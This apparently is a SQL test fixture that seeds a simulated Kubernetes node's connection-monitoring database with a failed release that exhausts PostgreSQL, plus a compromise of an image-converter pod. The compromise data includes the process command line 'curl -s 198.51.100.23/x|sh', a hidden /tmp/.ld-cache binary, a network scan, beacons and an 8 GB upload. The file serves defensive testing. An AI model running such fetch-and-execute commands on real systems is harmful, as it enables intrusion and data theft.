-- The history that query/cookbook.md asks: a node of a small shop, seen at 2026-01-31T12:00:00Z
-- as all golden tests are, with a bad night behind it.
--
--   until 03:12 (CET) all is well: the pod checkout holds its connections to PostgreSQL open
--   03:12  a new release of it opens one for each order
--   03:18  PostgreSQL has no more: it resets, then does not answer; DNS over TCP is slow, too
--   03:31  the pod is killed, the former release comes back
--   04:40  in the pod thumbs something else runs: it scans a network, calls home each minute,
--          and at 05:10 sends 8 GB away

CREATE TEMP TABLE t AS SELECT 1769860800000000 AS now_us, 1769826000000000 AS broke_us;

INSERT INTO run VALUES (1, 'b007', '0.1.0', 99, 1769600000000000, NULL, 1769860799000000, 30000, 30000, 0, 0, 0);
INSERT INTO local_address (id, netns, addr) VALUES
  (1, 4026531840, '10.20.0.7'), (2, 4026532101, '10.244.7.12'), (3, 4026532202, '10.244.7.30');
INSERT INTO container (id, cgroup_id, path, runtime, name, container_id, pod) VALUES
  (1, 5001, '/kubepods/pod1/c1', 'containerd', 'checkout',
   'c1a55e77c1a55e77c1a55e77c1a55e77c1a55e77c1a55e77c1a55e77c1a55e77', 'shop/checkout-5c9d-x2k4p'),
  (2, 5002, '/kubepods/pod2/c2', 'containerd', 'checkout',
   'c2b0b3f0c2b0b3f0c2b0b3f0c2b0b3f0c2b0b3f0c2b0b3f0c2b0b3f0c2b0b3f0', 'shop/checkout-7f41-qm8zd'),
  (3, 5003, '/kubepods/pod3/c3', 'containerd', 'thumbs',
   'c3d15ea5c3d15ea5c3d15ea5c3d15ea5c3d15ea5c3d15ea5c3d15ea5c3d15ea5', 'shop/thumbs-0'),
  (4, 5004, '/kubepods/pod4/c4', 'containerd', 'ingress',
   'c4e0ffeec4e0ffeec4e0ffeec4e0ffeec4e0ffeec4e0ffeec4e0ffeec4e0ffee', 'edge/ingress-m2v8c');
INSERT INTO program VALUES
  (1, 'systemd', '/usr/lib/systemd/systemd', 0, NULL),
  (2, 'containerd-shim', '/usr/bin/containerd-shim-runc-v2', 0, NULL),
  (3, 'java', '/opt/java/bin/java', 1000, 1),
  (4, 'java', '/opt/java/bin/java', 1000, 2),
  (5, 'nginx', '/usr/sbin/nginx', 101, 4),
  (6, 'convert', '/usr/bin/convert', 1000, 3),
  (7, 'sh', '/bin/dash', 1000, 3),
  (8, '.ld-cache', '/tmp/.ld-cache', 1000, 3),
  (9, 'sshd', '/usr/sbin/sshd', 0, NULL),
  (10, 'node_exporter', '/usr/bin/node_exporter', 999, NULL),
  (11, 'restic', '/usr/bin/restic', 0, NULL),
  (12, 'kubelet', '/usr/bin/kubelet', 0, NULL);
INSERT INTO process (id, boot, pid, start_us, ppid, program_id, cmdline, parent_id, exit_us)
SELECT column1, 1, column2, 1769600000000000 + column3 * 1000000, column4, column5, column6, column7,
       CASE WHEN column8 IS NULL THEN NULL ELSE t.broke_us + column8 * 1000000 END
  FROM t, (VALUES
  (1, 1,    0, 0,    1,  '/sbin/init', NULL, NULL),
  (2, 2100, 5, 1,    2,  'containerd-shim-runc-v2 -namespace k8s.io', 1, NULL),
  -- the new release begins at 03:12, and is killed at 03:31
  (3, 2188, 9, 2100, 3,  'java -jar checkout-41.jar', 2, NULL),
  (4, 9120, 225520, 2100, 4, 'java -jar checkout-42.jar', 2, 660),
  (5, 2300, 9, 2100, 5,  'nginx: worker process', 2, NULL),
  (6, 2411, 9, 2100, 6,  'convert - -resize 200x200 jpeg:-', 2, NULL),
  -- 04:40: a shell under the image converter
  (7, 9877, 230790, 2411, 7, 'sh -c ''curl -s 198.51.100.23/x|sh''', 6, 4830),
  (8, 9880, 230795, 9877, 8, './.ld-cache -d', 7, NULL),
  (9, 810, 1, 1, 9, 'sshd: ops [priv]', 1, NULL),
  (10, 702, 1, 1, 10, 'node_exporter', 1, NULL),
  (11, 9950, 236800, 1, 11, 'restic backup /srv', 1, 11500),
  (12, 650, 1, 1, 12, 'kubelet', 1, NULL));
INSERT INTO listener (netns, addr, port, program_id, from_us, to_us, cookie) VALUES
  (4026531840, '0.0.0.0', 22, 9, 1769600002000000, NULL, 1),
  (4026531840, '::', 9100, 10, 1769600003000000, NULL, 2),
  (4026531840, '0.0.0.0', 443, 5, 1769600010000000, NULL, 3),
  (4026532202, '0.0.0.0', 31337, 8, 1769830810000000, NULL, 4);

-- start_us, and the rest as in connection; r is a number from 0 to 999 that looks like chance.
CREATE TEMP TABLE made (
  start_us INTEGER, duration_us INTEGER, direction INTEGER, outcome INTEGER, error INTEGER,
  local_id INTEGER, local_port INTEGER, peer_addr TEXT, peer_port INTEGER, process_id INTEGER,
  container_id INTEGER, connect_us INTEGER, tx_bytes INTEGER, rx_bytes INTEGER, retransmits INTEGER
);
CREATE TEMP TABLE n AS
WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < 9999)
SELECT i, (i * 7919 + i * i * 31) % 1000 AS r FROM n;

-- Two days of what is always there. Customers, at each half minute:
INSERT INTO made SELECT now_us - 172800000000 + i * 30000000 + r * 10000, 200000 + r * 900, 1, 2, NULL,
  1, 443, '203.0.113.' || (i % 60 + 1), 40000 + r, 5, 4, NULL, 30000 + r * 40, 900 + r, r / 990
  FROM n, t WHERE i < 5760;
-- their orders: the payment service, and Redis
INSERT INTO made SELECT now_us - 172800000000 + i * 60000000 + r * 20000, 300000 + r * 500, 0, 2, NULL,
  2, 30000 + r, '192.0.2.80', 443, 3, 1, 11000 + r * 8, 2100 + r, 5200 + r, 0
  FROM n, t WHERE i < 2880 AND NOT i BETWEEN 2292 AND 2311;
INSERT INTO made SELECT now_us - 172800000000 + i * 60000000 + r * 30000, 4000 + r, 0, 2, NULL,
  2, 31000 + r, '10.20.0.31', 6379, 3, 1, 300 + r / 4, 400 + r, 800 + r, 0
  FROM n, t WHERE i < 2880 AND NOT i BETWEEN 2292 AND 2311;
-- its pool: each connection to PostgreSQL lives for an hour
INSERT INTO made SELECT now_us - 172800000000 + i * 450000000 + r * 10000, 3600000000 + r * 1000, 0, 2, NULL,
  2, 32000 + r, '10.20.0.15', 5432, 3, 1, 450 + r / 3, 900000 + r * 100, 2500000 + r * 200, r / 995
  FROM n, t WHERE i < 376;
-- Prometheus, names over TCP, the API
INSERT INTO made SELECT now_us - 172800000000 + i * 60000000, 15000 + r, 1, 2, NULL, 1, 9100, '10.20.0.5',
  50000 + r, 10, NULL, NULL, 52000 + r, 310, 0 FROM n, t WHERE i < 2880;
INSERT INTO made SELECT now_us - 172800000000 + i * 90000000 + r * 1000, 1500 + r, 0, 2, NULL, 1, 33000 + r,
  '10.96.0.10', 53, 12, NULL, 250 + r / 5, 60, 210, 0 FROM n, t WHERE i < 1920;
INSERT INTO made SELECT now_us - 172800000000 + i * 600000000 + r * 1000, 900000 + r * 100, 0, 2, NULL, 1,
  34000 + r, '10.20.0.2', 6443, 12, NULL, 600 + r, 9000 + r, 40000 + r, 0 FROM n, t WHERE i < 288;

-- The bad release: from 03:12 on a connection to PostgreSQL for each order, four a second;
-- at 03:18 it is full: resets, from 03:20 on no answer.
INSERT INTO made SELECT broke_us - 480000000 + i * 250000 + r * 100, 30000 + r * 40, 0, 2, NULL, 2,
  35000 + i % 20000, '10.20.0.15', 5432, 4, 2, 500 + r / 3, 700 + r, 1500 + r, 0
  FROM n, t WHERE i < 1440;
INSERT INTO made SELECT broke_us - 120000000 + i * 250000 + r * 100, 2500 + r, 0, 3, 104, 2,
  36500 + i, '10.20.0.15', 5432, 4, 2, 900 + r * 30, 90, 110, r / 700 FROM n, t WHERE i < 480;
INSERT INTO made SELECT broke_us + i * 800000 + r * 300, 10000000 + r, 0, 17, 110, 2,
  37500 + i, '10.20.0.15', 5432, 4, 2, NULL, 0, 0, 3 + r / 500 FROM n, t WHERE i < 800;
INSERT INTO made SELECT broke_us + 420000000 + i * 2000000 + r * 300, 900 + r, 0, 16, 111, 2,
  38500 + i, '10.20.0.15', 5432, 4, 2, NULL, 0, 0, 0 FROM n, t WHERE i < 120;
-- and slow names
INSERT INTO made SELECT broke_us - 300000000 + i * 3000000 + r * 900, 1100000 + r * 900, 0, 2, NULL, 2,
  39500 + i, '10.96.0.10', 53, 4, 2, CASE WHEN r < 600 THEN 1020000 + r * 300 ELSE 900 + r END, 60, 210,
  r < 600 FROM n, t WHERE i < 300;

-- What came with the night: a download, a scan, a call each minute, 8 GB.
INSERT INTO made SELECT broke_us + 4790000000, 210000, 0, 2, NULL, 3, 41000, '198.51.100.23', 80, 7, 3,
  31000, 90, 1843200, 0 FROM t;
INSERT INTO made SELECT broke_us + 4860000000 + i * 40000 + r, CASE WHEN i % 11 < 2 THEN 1500 ELSE 700 END, 0,
  CASE i % 11 WHEN 0 THEN 2 WHEN 1 THEN 17 ELSE 16 END, CASE i % 11 WHEN 0 THEN NULL WHEN 1 THEN 110 ELSE 111 END,
  3, 42000 + i, '10.20.0.' || (i % 254 + 1),
  CASE i / 254 WHEN 0 THEN 22 WHEN 1 THEN 5432 WHEN 2 THEN 6379 ELSE 9200 END, 8, 3,
  CASE i % 11 WHEN 0 THEN 400 END, 0, 0, 0 FROM n, t WHERE i < 1016;
INSERT INTO made SELECT broke_us + 4900000000 + i * 60000000 + (r % 40) * 10000, 350000 + r * 100, 0, 2, NULL, 3,
  45000 + i % 9000, '198.51.100.23', 8443, 8, 3, 30500 + r, 412, 96, 0 FROM n, t WHERE i < 498;
INSERT INTO made SELECT broke_us + 6600000000, 1260000000, 0, 2, NULL, 3, 46000, '198.51.100.23', 443, 8, 3,
  30900, 8589934592, 524288, 211 FROM t;
-- the backup, as each night
INSERT INTO made SELECT broke_us + 10800000000 - i * 86400000000, 600000000, 0, 2, NULL, 1, 47000 + i, '10.20.0.40',
  8000, 11, NULL, 700, 2147483648, 1048576, 12 FROM n, t WHERE i < 2;

INSERT INTO connection (id, duration_us, direction, outcome, error, flags, local_id, local_port,
  peer_addr, peer_port, process_id, closer_id, container_id, connect_us, tx_bytes, rx_bytes,
  retransmits, srtt_us, min_rtt_us, cookie, owner_source)
SELECT (start_us + duration_us) / 1000 * 1000 + row_number() OVER (ORDER BY start_us + duration_us) % 1000,
       duration_us, direction, outcome, error, 0, local_id, local_port, peer_addr, peer_port, process_id, 0,
       container_id, connect_us, tx_bytes, rx_bytes, retransmits, connect_us, connect_us, start_us % 100000, 1
  FROM made ORDER BY start_us + duration_us;

INSERT INTO open_row (id, start_us, seen_us, direction, outcome, error, local_addr, local_port,
  peer_addr, peer_port, process_id, closer_id, container_id, netns, connect_us, accept_wait_us,
  tx_bytes, rx_bytes, retransmits, srtt_us, min_rtt_us, cookie, owner_source, flags)
SELECT column1, now_us - column2 * 1000000, now_us - 1000000, column3, 1, NULL, column4, column5, column6,
       column7, column8, NULL, column9, column10, column11, NULL, column12, column13, 0, 900, 700, column1, 1, 0
  FROM t, (VALUES
  (1, 250000, 1, '10.20.0.7', 22, '10.20.0.99', 52011, 9, NULL, 4026531840, NULL, 812000, 96000),
  (2, 1700, 0, '10.244.7.12', 30011, '10.20.0.15', 5432, 3, 1, 4026532101, 480, 400000, 1200000),
  (3, 22000, 0, '10.244.7.30', 31011, '198.51.100.23', 8443, 8, 3, 4026532202, 31000, 90000, 4000));
-- in the morning the collector was restarted
INSERT INTO gap (from_us, to_us, reason, count)
SELECT now_us - 10800000000, now_us - 10788000000, 'stopped', NULL FROM t;
DROP TABLE made;
DROP TABLE n;
-- What was asked for: the database and the payments all the time, the mirror once, and the last
-- two by who came in the night.
INSERT INTO dns_name
SELECT column1, column2, '10.96.0.10', broke_us + column3 * 1000000, broke_us + column4 * 1000000, column5
  FROM t, (VALUES
  ('10.20.0.15', 'postgres.shop.svc.cluster.local', -250000, 34700, 21000),
  ('10.20.0.31', 'redis.shop.svc.cluster.local', -250000, 34700, 21000),
  ('192.0.2.80', 'api.payments.example', -250000, 34600, 4000),
  ('10.20.0.2', 'kubernetes.default.svc.cluster.local', -250000, 34600, 900),
  ('198.51.100.23', 'mirror.images.example', 4789, 4789, 1),
  ('198.51.100.23', 'telemetry-cdn.example', 4899, 34780, 498));
DROP TABLE t;
